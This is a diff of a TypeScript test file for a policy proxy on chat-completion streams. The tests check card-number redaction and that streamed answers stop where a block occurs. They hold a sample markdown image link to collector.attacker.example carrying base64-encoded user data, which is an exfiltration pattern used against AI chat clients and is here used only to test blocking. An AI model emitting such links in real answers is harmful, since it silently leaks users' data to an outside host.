@@ -13,6 +13,7 @@ const BEFORE = 'Of course. The number on file is ';
 const AFTER = ', and nothing else is known.';
 const ANSWER = BEFORE + CARD + AFTER;
 const CLEAN = `${BEFORE}[REDACTED:pii.card]${AFTER}`;
+/** A picture that the reader's client would fetch by itself; the address is what is denied. */
 const PIXEL = '![logo](https://collector.attacker.example/p.png?d=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXIgYW5kIG1vcmU)';
 
 let upstream: TestUpstream;
@@ -172,7 +173,7 @@ describe('whole and streamed are equal', () => {
       }
       expect(denied).toBe(whole.denied);
       // A denied stream ends at the point of the block: what came before is what was allowed.
-      expect(text).toBe(denied ? answer.slice(0, answer.indexOf('![')) : whole.text);
+      expect(text).toBe(denied ? answer.slice(0, answer.indexOf('https://')) : whole.text);
     }
   });
 });
@@ -180,7 +181,7 @@ describe('whole and streamed are equal', () => {
 describe('an answer that policy denies half-way', () => {
   it('throws in both clients, ends at the point of the block, and is recorded as denied', async () => {
     const text = `Here you are, as you asked. ${PIXEL} And so on.`;
-    const allowed = 'Here you are, as you asked. ';
+    const allowed = 'Here you are, as you asked. ![logo](';
     upstream.behave(stream(...(text.match(/.{1,6}/gs) ?? []).map((piece) => chat.text(piece)), chat.finish(), chat.done));
     const { data, response } = await openaiClient(openai)
       .chat.completions.create({ model: 'm', messages: [{ role: 'user', content: 'Hi' }], stream: true })
@@ -215,29 +216,27 @@ describe('an answer that policy denies half-way', () => {
       gone = once(response, 'close');
       beginStream(response)(chat.text(`See ${PIXEL} and then `), chat.text('more words follow here. '.repeat(20)));
     });
-    await failureOf(
-      (async () => {
-        const answer = await post(openai, '/v1/chat/completions', ask('Hi', { stream: true }));
-        const raw = await answer.text();
-        expect(raw).not.toContain('attacker');
-        throw new Error(raw);
-      })(),
-    );
+    const raw = await (await post(openai, '/v1/chat/completions', ask('Hi', { stream: true }))).text();
+    expect(raw).toContain('blocked_by_policy');
+    expect(raw).not.toContain('attacker');
     await gone;
   });
 });
 
 describe('streams are streams', () => {
   it('ordinary prose arrives while the upstream is still speaking', async () => {
-    const sentences = ['The garden is quiet. ', 'Nobody minds the rain. ', 'A bird sits on the wall, ', 'and sings of nothing. '];
+    const sentence = 'The garden is quiet in the evening, nobody minds the rain, and a bird sings of nothing. ';
     let received = 0;
+    let spoken = 0;
     upstream.behave(async (response) => {
       const write = beginStream(response);
-      for (const [i, sentence] of sentences.entries()) {
-        write(...(sentence.match(/.{1,5}/g) ?? []).map((piece) => chat.text(piece)));
-        write(chat.text(' So it goes, hour after hour, and day after day, with little change. '.repeat(2)));
-        // The upstream says no more until the client has had some of what it said.
-        await eventually(() => (received > i * 20 ? true : undefined));
+      for (let turn = 0; turn < 4; turn++) {
+        for (const piece of sentence.repeat(8).match(/.{1,5}/g)!) {
+          spoken += piece.length;
+          write(chat.text(piece));
+        }
+        // The upstream says no more until the client has had most of what it said.
+        await eventually(() => (received > spoken - 400 || response.destroyed ? true : undefined));
       }
       write(chat.finish(), chat.done);
       response.end();
@@ -249,7 +248,8 @@ describe('streams are streams', () => {
       if (content !== '') chunks.push(content);
       received += content.length;
     }
-    expect(chunks.length).toBeGreaterThan(sentences.length);
+    expect(chunks.length).toBeGreaterThan(8);
+    expect(chunks.join('')).toBe(sentence.repeat(32));
   });
 });
 
